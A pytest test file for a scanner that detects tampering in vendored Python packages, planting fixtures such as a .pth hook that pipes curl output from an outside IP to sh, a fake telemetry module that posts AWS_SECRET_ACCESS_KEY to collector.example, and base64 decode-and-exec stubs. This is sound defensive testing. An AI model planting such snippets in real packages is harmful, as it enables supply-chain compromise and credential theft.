"""Vendored code: a real vendored folder (distributions copied from this environment) tampered with in each
way an attacker would; every tampering is found at high, the untouched folder gives nothing at high."""

from __future__ import annotations

import importlib.metadata as metadata
import shutil
import zipfile
from pathlib import Path

import pytest
from supply_helpers import Tamper, at_least, copy_distribution, distutils_precedence_pth, ours, run

from sas.taxonomy import Severity


def test_untouched_folder_has_nothing_at_high(pristine: Path) -> None:
    result = run(pristine)
    assert at_least(result, Severity.HIGH) == []
    assert not result.errors
    # the inventory the SBOM writer needs: every copied distribution, with a purl
    packages = {c.name.lower(): c for c in result.components if c.kind == "python-package"}
    for name in ("idna", "certifi", "urllib3", "packaging", "six"):
        assert name in packages
        component = packages[name]
        assert component.purl == f"pkg:pypi/{name}@{component.version}"
        assert component.path.endswith(".dist-info")


def _modify_py(root: Path, _layer: Path) -> None:
    with (root / "idna" / "core.py").open("a") as fh:
        fh.write("\nimport os\n")


def _remove_module(root: Path, _layer: Path) -> None:
    (root / "urllib3" / "exceptions.py").unlink()


def _add_unlisted(root: Path, _layer: Path) -> None:
    (root / "certifi" / "extra.py").write_text("VALUE = 1\n")


def _add_pth(root: Path, _layer: Path) -> None:
    (root / "zz_init.pth").write_text("import os; os.system('curl -s http://198.51.100.7/x | sh')\n")


def _add_sitecustomize(root: Path, _layer: Path) -> None:
    (root / "sitecustomize.py").write_text("import os\nos.environ['X'] = '1'\n")


def _add_decode_exec(root: Path, _layer: Path) -> None:
    (root / "packaging" / "_speedups.py").write_text(
        "import base64, zlib\n_p = zlib.decompress(base64.b64decode('eJwrKMrMK1EozsgvzUlRSM7PS0lNLgEANGcGJg=='))\n"
        "exec(_p)\n"
    )


def _add_harvester(root: Path, _layer: Path) -> None:
    (root / "telemetry_client.py").write_text(
        "import json, os, urllib.request\n\n"
        "def _ping():\n"
        "    body = json.dumps({'k': os.environ.get('AWS_SECRET_ACCESS_KEY')}).encode()\n"
        "    urllib.request.urlopen('https://collector.example/v1', data=body)\n\n"
        "_ping()\n"
    )


def _add_native(root: Path, _layer: Path) -> None:
    (root / "idna" / "_fast.cpython-312-x86_64-linux-gnu.so").write_bytes(b"\x7fELF\x02\x01\x01" + bytes(200))


def _add_imitation(root: Path, _layer: Path) -> None:
    (root / "reqeusts").mkdir()
    (root / "reqeusts" / "__init__.py").write_text("from urllib3 import *\n")


def _layer_shadows_function(_root: Path, layer: Path) -> None:
    package = layer / "python" / "app"
    package.mkdir(parents=True)
    (package / "__init__.py").write_text("")
    (package / "model.py").write_text("def predict(x):\n    return 0\n")


TAMPERINGS: dict[str, tuple[Tamper, str, str]] = {
    "modified-py": (_modify_py, "SAS-VEND-001", "idna/core.py"),
    "removed-module": (_remove_module, "SAS-VEND-002", "urllib3/exceptions.py"),
    "unlisted-file": (_add_unlisted, "SAS-VEND-003", "certifi/extra.py"),
    "executable-pth": (_add_pth, "SAS-VEND-006", "zz_init.pth"),
    "sitecustomize": (_add_sitecustomize, "SAS-VEND-007", "sitecustomize.py"),
    "decode-exec": (_add_decode_exec, "SAS-VEND-008", "packaging/_speedups.py"),
    "credential-harvest": (_add_harvester, "SAS-VEND-010", "telemetry_client.py"),
    "unlisted-native": (_add_native, "SAS-VEND-003", "idna/_fast.cpython-312-x86_64-linux-gnu.so"),
    "metadata-less-imitation": (_add_imitation, "SAS-VEND-004", "reqeusts/__init__.py"),
    "layer-shadows-function": (_layer_shadows_function, "SAS-LAYER-001", "layer:layer!python/app/__init__.py"),
}


@pytest.mark.parametrize("case", sorted(TAMPERINGS))
def test_each_tampering_is_found_at_high(pristine: Path, tmp_path: Path, case: str) -> None:
    tamper, rule_id, path = TAMPERINGS[case]
    layer = tmp_path / "layer"
    layer.mkdir()
    tamper(pristine, layer)
    result = run(pristine, layers=(str(layer),))
    hits = [f for f in at_least(result, Severity.HIGH) if f.rule_id == rule_id and f.location.path == path]
    assert hits, [(f.rule_id, f.location.path, f.severity.value) for f in ours(result)]


def test_harvester_that_also_phones_home_is_critical(pristine: Path) -> None:
    _add_harvester(pristine, pristine)
    result = run(pristine)
    assert {f.rule_id for f in result.findings if f.severity is Severity.CRITICAL} == {"SAS-VEND-010"}
    assert any(f.rule_id == "SAS-VEND-009" for f in result.findings)


def test_zipped_package_is_verified_and_members_are_reread(pristine: Path, tmp_path: Path) -> None:
    _modify_py(pristine, pristine)
    _add_decode_exec(pristine, pristine)
    archive = tmp_path / "function.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        for file in sorted(pristine.rglob("*")):
            if file.is_file():
                zf.write(file, file.relative_to(pristine).as_posix())
    result = run(archive)
    found = {(f.rule_id, f.location.path) for f in at_least(result, Severity.HIGH)}
    assert ("SAS-VEND-001", "function.zip!idna/core.py") in found
    assert ("SAS-VEND-008", "function.zip!packaging/_speedups.py") in found


def test_verified_setuptools_hook_is_silent_and_a_changed_one_is_high(tmp_path: Path) -> None:
    root = tmp_path / "f"
    root.mkdir()
    record = next(
        line
        for line in metadata.distribution("setuptools").read_text("RECORD").splitlines()  # type: ignore[union-attr]
        if line.startswith("distutils-precedence.pth,")
    )
    info = root / "setuptools-80.0.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: setuptools\nVersion: 80.0.0\n\n")
    (info / "RECORD").write_text(f"{record}\nsetuptools-80.0.0.dist-info/METADATA,,\n")
    shutil.copyfile(distutils_precedence_pth(), root / "distutils-precedence.pth")
    assert [f for f in run(root).findings if f.rule_id == "SAS-VEND-006"] == []
    with (root / "distutils-precedence.pth").open("a") as fh:
        fh.write("import socket; socket.create_connection(('203.0.113.9', 443))\n")
    rules = {f.rule_id for f in at_least(run(root), Severity.HIGH)}
    assert {"SAS-VEND-001", "SAS-VEND-006"} <= rules


def test_ordinary_development_hooks_are_low(tmp_path: Path) -> None:
    (tmp_path / "__editable__.mylib-0.1.pth").write_text(
        "import __editable___mylib_0_1_finder; __editable___mylib_0_1_finder.install()\n"
    )
    (tmp_path / "_virtualenv.pth").write_text("import _virtualenv\n")
    hooks = [f for f in run(tmp_path).findings if f.rule_id == "SAS-VEND-006"]
    assert len(hooks) == 2 and all(f.severity is Severity.LOW for f in hooks)


def test_pth_adding_a_writable_folder_is_high(tmp_path: Path) -> None:
    (tmp_path / "extra.pth").write_text("/tmp/plugins\n")
    hooks = [f for f in run(tmp_path).findings if f.rule_id == "SAS-VEND-006"]
    assert hooks and hooks[0].severity is Severity.HIGH and hooks[0].evidence == "/tmp/plugins"


def test_changed_data_file_is_medium_and_slimmed_tests_are_low(tmp_path: Path) -> None:
    root = tmp_path / "f"
    copy_distribution("certifi", root)
    copy_distribution("packaging", root)
    with (root / "certifi" / "cacert.pem").open("a") as fh:
        fh.write("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
    for stub in root.rglob("*.pyi"):
        stub.unlink()
    for typed in root.rglob("py.typed"):
        typed.unlink()
    result = run(root)
    assert at_least(result, Severity.HIGH) == []
    modified = [f for f in result.findings if f.rule_id == "SAS-VEND-001"]
    assert [(f.location.path, f.severity) for f in modified] == [("certifi/cacert.pem", Severity.MEDIUM)]
    assert any(f.rule_id == "SAS-VEND-002" and f.severity is Severity.LOW for f in result.findings)


def test_unlisted_bytecode_is_low(pristine: Path) -> None:
    cache = pristine / "idna" / "__pycache__"
    cache.mkdir(exist_ok=True)
    (cache / "core.cpython-399.pyc").write_bytes(b"\x00" * 32)
    unlisted = [f for f in run(pristine).findings if f.rule_id == "SAS-VEND-003"]
    assert [f.severity for f in unlisted] == [Severity.LOW]


def test_native_module_without_any_metadata_is_medium(tmp_path: Path) -> None:
    (tmp_path / "fastmath.cpython-312-x86_64-linux-gnu.so").write_bytes(b"\x7fELF" + bytes(64))
    native = [f for f in run(tmp_path).findings if f.rule_id == "SAS-VEND-011"]
    assert [f.severity for f in native] == [Severity.MEDIUM]


def test_malformed_record_is_reported_not_raised(tmp_path: Path) -> None:
    info = tmp_path / "broken-1.0.dist-info"
    info.mkdir()
    (info / "RECORD").write_bytes(b'broken/__init__.py,sha256=!!notbase64!!,12\n\x00\xff\xfe,,\n"unterminated')
    (info / "METADATA").write_bytes(b"\xff\xfe\x00garbage")
    (tmp_path / "broken").mkdir()
    (tmp_path / "broken" / "__init__.py").write_text("")
    result = run(tmp_path)
    assert any(f.rule_id == "SAS-VEND-012" for f in result.findings)


def test_distribution_without_record_is_low(tmp_path: Path) -> None:
    info = tmp_path / "thing-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Name: thing\nVersion: 1.0\n\n")
    findings = [f for f in run(tmp_path).findings if f.rule_id == "SAS-VEND-012"]
    assert [f.severity for f in findings] == [Severity.LOW]


def test_vendored_typosquat_distribution_is_high(tmp_path: Path) -> None:
    info = tmp_path / "colourama-0.4.6.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: colourama\nVersion: 0.4.6\n\n")
    (info / "RECORD").write_text("colourama-0.4.6.dist-info/METADATA,,\n")
    squats = [f for f in run(tmp_path).findings if f.rule_id == "SAS-DEP-003"]
    assert squats and squats[0].severity is Severity.HIGH and "colorama" in squats[0].message


def test_function_module_named_like_stdlib_is_reported(tmp_path: Path) -> None:
    (tmp_path / "secrets.py").write_text("API_KEY = 'x'\n")
    (tmp_path / "handler.py").write_text("def handler(e, c):\n    return 1\n")
    (tmp_path / "test").mkdir()  # the stdlib "test" package is exempt: nobody imports it
    (tmp_path / "test" / "test_handler.py").write_text("")
    stdlib = [f for f in run(tmp_path).findings if f.rule_id == "SAS-VEND-005"]
    assert [(f.location.path, f.severity) for f in stdlib] == [("secrets.py", Severity.MEDIUM)]


@pytest.mark.parametrize("name", ["tools", "database", "parser", "utils", "model", "inference", "handler", "app"])
def test_ordinary_function_module_names_are_not_imitations(tmp_path: Path, name: str) -> None:
    (tmp_path / f"{name}.py").write_text("X = 1\n")
    assert [f for f in run(tmp_path).findings if f.rule_id == "SAS-VEND-004"] == []


def test_pth_that_decodes_and_runs_a_payload_is_critical(tmp_path: Path) -> None:
    (tmp_path / "python").mkdir()  # outside any site folder: still reported, the folder may become a layer
    (tmp_path / "python" / "zz.pth").write_text("import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n")
    hooks = [f for f in run(tmp_path).findings if f.rule_id == "SAS-VEND-006"]
    assert [(f.location.path, f.severity) for f in hooks] == [("python/zz.pth", Severity.CRITICAL)]


def test_verified_files_are_not_reread_unless_asked(tmp_path: Path) -> None:
    import base64
    import hashlib

    payload = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    (tmp_path / "shady").mkdir()
    (tmp_path / "shady" / "__init__.py").write_bytes(payload)
    digest = base64.urlsafe_b64encode(hashlib.sha256(payload).digest()).rstrip(b"=").decode()
    info = tmp_path / "shady-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Name: shady\nVersion: 1.0\n\n")
    (info / "RECORD").write_text(f"shady/__init__.py,sha256={digest},{len(payload)}\nshady-1.0.dist-info/RECORD,,\n")
    assert [f for f in run(tmp_path).findings if f.rule_id == "SAS-VEND-008"] == []
    deep = run(tmp_path, raw={"scan": {"supply": {"inspect_verified": True}}})
    assert [f.location.path for f in deep.findings if f.rule_id == "SAS-VEND-008"] == ["shady/__init__.py"]
